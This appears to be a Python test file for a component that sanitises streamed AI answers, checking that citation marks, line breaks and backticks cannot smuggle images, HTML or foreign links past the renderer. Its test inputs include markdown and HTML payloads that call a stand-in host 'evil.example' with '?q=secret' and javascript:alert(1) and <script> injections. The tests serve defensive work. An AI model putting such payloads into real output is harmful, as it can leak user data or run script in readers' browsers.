"""What is shown of a generated text, whatever was left out: no image, HTML or foreign link."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from quarry.models.extractive import ExtractiveGenerator
from quarry.records import Prompt
from serve.answering.writing import AnswerWriter
from tests.unit.serve.answering.rendered import dangers
from tests.unit.serve.answering.test_citations import evidence
from tests.unit.serve.answering.test_links import FRAGMENTS, KNOWN

SOURCES = [evidence(f"See {KNOWN} for tents."), evidence("Oslo opens at nine.", label="S2")]
CHARACTERS = ["\r", "\r\n", "\xa0", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\0", "\ud800"]
MARKS = ["[S1]", "[S99]", "(S99)", "【S99】", "[[S99]]", "[S99, S2]", "S9", "9]", "(S", "\\[S99\\]"]


def written(*pieces: str) -> tuple[str, AnswerWriter]:
    writer = AnswerWriter(SOURCES)
    return "".join(writer.feed(piece) for piece in pieces) + writer.finish(), writer


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("!【S99】[x]【S99】(//evil.example/?q=secret)", "x"),
        ("[click]【S99】(javascript:alert(1))", "click"),
        ("<i(S99)mg src=//evil.example/x> hi", "hi"),
        ("ht(S99)tps://evil.example/?q=secret x", "x"),
        ("x <【S99】script>alert(1)</script>", "x alert(1)"),
    ],
)
def test_a_mark_that_is_left_out_makes_no_link_of_what_it_parted(text: str, expected: str) -> None:
    assert written(text)[0] == expected


@pytest.mark.parametrize(
    "apart", ["\r", "\r\n", "\n", "\n\xa0\n", "\n\x0c\n", "\n\x1c\n", "\n\u2028\n"]
)
@pytest.mark.parametrize(
    "hidden",
    [
        "![a](//host.example/x?secret)",
        "<script>alert(1)</script>",
        '<a href="javascript:alert(1)">x</a>',
        "[click](//host.example/)",
    ],
)
def test_no_line_end_and_no_blank_lets_backticks_hide_what_a_renderer_shows(
    apart: str, hidden: str
) -> None:
    text = f"Press the ` key.{apart}Then `{hidden}` [S1]"
    shown, _ = written(*text)
    assert shown == written(text)[0]
    assert not dangers(shown, KNOWN)


@pytest.mark.parametrize(
    ("pieces", "expected"),
    [
        (["a\r", "\nb\r\nc\rd\n\re"], "a\nb\nc\nd\n\ne"),
        (["a\r", "", "\n\nb"], "a\n\nb"),
        (["a\u2028b\x0cc\x85d\x1ee"], "a b c d e"),
        (["a\0b\x1b[31mc\td"], "ab[31mc\td"),
        (["a\ud83db \U0001f600 \xa0c"], "a\ufffdb \U0001f600 \xa0c"),
    ],
)
def test_line_ends_become_line_feeds_and_control_characters_go(
    pieces: list[str], expected: str
) -> None:
    assert written(*pieces)[0] == expected
    assert written("".join(pieces))[0] == expected


def test_code_in_a_fence_is_shown_as_it_is_whatever_ends_its_lines() -> None:
    code = "```xml\r\n<a b='c'>\r\n\r\n![x](y)\r\n```\r\nSee [S1]."
    assert written(*code)[0] == code.replace("\r\n", "\n")


@settings(max_examples=1000)
@given(pieces=st.lists(st.sampled_from(FRAGMENTS + MARKS + CHARACTERS), max_size=30))
def test_no_image_no_html_and_no_foreign_link_is_shown(pieces: list[str]) -> None:
    shown, writer = written(*pieces)
    whole, at_once = written("".join(pieces))
    assert (shown, writer.marks) == (whole, at_once.marks)
    assert shown == shown.strip()
    assert "evil" not in shown
    assert not dangers(shown, KNOWN)
    assert all(shown[mark.at : mark.end] == f"[{mark.label}]" for mark in writer.marks)


async def test_a_quote_gains_no_citation_by_the_numbers_that_stand_in_it() -> None:
    text = "[1] Smith writes that used tents are dried [2]. Stoves are not."
    sources = (evidence("Oslo opens at nine."), evidence(text, label="S2"))
    prompt = Prompt(
        question="How are used tents dried?", evidence=sources, messages=(), max_tokens=99
    )
    writer = AnswerWriter(sources)
    generated = [piece.text async for piece in ExtractiveGenerator().stream(prompt)]
    shown = "".join(map(writer.feed, generated)) + writer.finish()
    assert "used tents are dried [2]" in shown
    assert [mark.label for mark in writer.marks] == ["S2"]
